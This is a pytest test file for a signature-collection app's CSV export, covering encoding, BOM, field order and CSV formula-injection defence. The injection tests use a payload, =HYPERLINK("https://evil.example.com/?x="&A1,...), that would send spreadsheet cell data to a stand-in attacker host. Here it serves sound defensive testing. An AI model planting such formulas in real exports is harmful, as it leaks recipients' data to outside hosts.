"""The signatures CSV that coordinators download: every field, UTF-8 with a BOM, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from signon.extensions import db
from signon.models import Signature, Statement
from tests import factories
from tests.sessions import seeding
from tests.spreadsheet_columns import COLUMNS

CSV_URL = "/coordinator/s/national-guard-letter/signatures.csv"
SUBMITTED = datetime(2026, 3, 1, 14, 30, 5, tzinfo=UTC)


def statement_with_slug(slug: str) -> Statement:
    return db.session.execute(db.select(Statement).where(Statement.slug == slug)).scalar_one()


@pytest.fixture
def maria(app, client):
    """A coordinator of the national-guard-letter, signed in with the test client."""
    with seeding(app):
        ours = factories.open_statement("national-guard-letter")
        factories.open_statement("other-team-letter")
        factories.coordinator("maria@lawg.example.org", statements=(ours,))
    r = client.post("/login", data={"email": "maria@lawg.example.org", "password": factories.PASSWORD})
    assert r.status_code == 303
    return client


def add_signature(app, name: str, slug: str = "national-guard-letter", **fields) -> int:
    with seeding(app):
        signature = factories.signature(statement_with_slug(slug), name, **fields)
        return signature.id


def download(client) -> tuple[bytes, list[dict[str, str]]]:
    r = client.get(CSV_URL)
    assert r.status_code == 200
    raw = r.get_data()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return raw, rows


def row_of(rows: list[dict[str, str]], signature_id: int) -> dict[str, str]:
    (row,) = [r for r in rows if r["id"] == str(signature_id)]
    return row


# --------------------------------------------------------------------------- format


def test_csv_is_downloaded_as_an_attachment_in_utf8(maria):
    r = maria.get(CSV_URL)
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert r.mimetype_params.get("charset", "").lower() == "utf-8"
    assert r.headers["Content-Disposition"].startswith("attachment")
    assert ".csv" in r.headers["Content-Disposition"]


def test_csv_starts_with_a_utf8_byte_order_mark(maria, app):
    add_signature(app, "Ámbito Migrante")
    raw, _ = download(maria)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1


def test_csv_header_names_every_field_in_order(maria):
    raw, _ = download(maria)
    header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert header == COLUMNS


def test_csv_of_a_statement_without_signatures_has_only_the_header(maria):
    raw, rows = download(maria)
    assert rows == []
    assert raw.decode("utf-8-sig").strip() == ",".join(COLUMNS)


# --------------------------------------------------------------------------- content


def test_csv_holds_every_field_of_a_signature(maria, app):
    signature_id = add_signature(
        app,
        "Latin America Working Group",
        category="national",
        city="Washington",
        region="DC",
        country="United States",
        website="https://lawg.example.org",
        contact_name="Lisa Haugaard",
        contact_role="Co-Director",
        email="lisa@lawg.example.org",
        comment="We stand with the shelters.",
        created_at=SUBMITTED,
        source_ip="203.0.113.7",
        user_agent="Mozilla/5.0 (X11; Linux x86_64)",
    )
    _, rows = download(maria)
    row = row_of(rows, signature_id)
    assert row["organization"] == "Latin America Working Group"
    assert row["category"] == "National"
    assert (row["city"], row["region"], row["country"]) == ("Washington", "DC", "United States")
    assert row["website"] == "https://lawg.example.org"
    assert (row["contact_name"], row["role"], row["email"]) == ("Lisa Haugaard", "Co-Director", "lisa@lawg.example.org")
    assert row["authorized"] == "yes"
    assert row["comment"] == "We stand with the shelters."
    assert row["status"] == "verified"
    assert datetime.fromisoformat(row["submitted_at"]) == SUBMITTED
    assert datetime.fromisoformat(row["confirmed_at"]) == SUBMITTED
    assert datetime.fromisoformat(row["verified_at"]) == SUBMITTED
    assert row["ip"] == "203.0.113.7"
    assert row["user_agent"] == "Mozilla/5.0 (X11; Linux x86_64)"


def test_csv_lists_every_signature_whatever_its_status(maria, app):
    ids = {
        status: add_signature(app, f"{status.title()} Organization", status=status, email=f"{status}@example.org")
        for status in ("verified", "pending", "rejected", "withdrawn")
    }
    _, rows = download(maria)
    assert {r["id"]: r["status"] for r in rows} == {str(i): status for status, i in ids.items()}
    pending = row_of(rows, ids["pending"])
    assert pending["confirmed_at"] == pending["verified_at"] == ""


def test_csv_holds_only_the_signatures_of_its_statement(maria, app):
    ours = add_signature(app, "Our Signatory")
    add_signature(app, "Their Signatory", slug="other-team-letter", email="theirs@example.org")
    raw, rows = download(maria)
    assert [r["id"] for r in rows] == [str(ours)]
    assert "Their Signatory" not in raw.decode("utf-8-sig")


def test_csv_round_trips_through_the_csv_module_with_accents_intact(maria, app):
    tricky = {
        "name": 'Centro de Derechos Humanos "Fray Matías de Córdova", A.C.',
        "city": "Tapachula, Chiapas",
        "region": "Chiapas",
        "country": "México",
        "contact_name": "Zoë Ñúñez-Ōsaka 李",
        "contact_role": "Coordinadora; «derechos»",
        "comment": 'Line one, with a comma.\nLine two with "quotes" and an emoji ✊🏽.\r\nLine three.',
    }
    signature_id = add_signature(
        app,
        tricky["name"],
        city=tricky["city"],
        region=tricky["region"],
        country=tricky["country"],
        contact_name=tricky["contact_name"],
        contact_role=tricky["contact_role"],
        comment=tricky["comment"],
        email="zoe@fraymatias.example.org",
    )
    _, rows = download(maria)
    row = row_of(rows, signature_id)
    assert row["organization"] == tricky["name"]
    assert (row["city"], row["region"], row["country"]) == (tricky["city"], tricky["region"], tricky["country"])
    assert row["contact_name"] == tricky["contact_name"]
    assert row["role"] == tricky["contact_role"]
    assert row["comment"] == tricky["comment"]
    assert len(rows) == 1
    assert all(len(r) == len(COLUMNS) and None not in r for r in rows)


def test_csv_is_utf8_and_not_a_legacy_encoding(maria, app):
    add_signature(app, "Ámbito Migrante", country="México")
    raw, _ = download(maria)
    assert "Ámbito Migrante".encode() in raw
    assert "México".encode() in raw
    assert "Ámbito".encode("latin-1") not in raw


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize(
    "column, field",
    [
        ("organization", "name"),
        ("city", "city"),
        ("region", "region"),
        ("country", "country"),
        ("website", "website"),
        ("contact_name", "contact_name"),
        ("role", "contact_role"),
        ("comment", "comment"),
        ("user_agent", "user_agent"),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_neutralised_with_a_quote(maria, app, start, column, field):
    value = start + 'HYPERLINK("https://evil.example.com/?x="&A1,"Click")'
    fields = {field: value} if field != "name" else {}
    name = value if field == "name" else "Safe Organization"
    signature_id = add_signature(app, name, **fields)
    _, rows = download(maria)
    assert row_of(rows, signature_id)[column] == "'" + value


@pytest.mark.parametrize("value", ["Ámbito Migrante", "1+1 Coalition", "ACLU = rights", "'quoted already"])
def test_a_cell_that_does_not_start_like_a_formula_is_left_as_it_is(maria, app, value):
    signature_id = add_signature(app, "Safe Organization", comment=value)
    _, rows = download(maria)
    assert row_of(rows, signature_id)["comment"] == value


def test_neutralising_leaves_the_stored_signature_unchanged(maria, app):
    signature_id = add_signature(app, "=Formula Org")
    download(maria)
    with seeding(app):
        assert db.session.get(Signature, signature_id).organization_name == "=Formula Org"
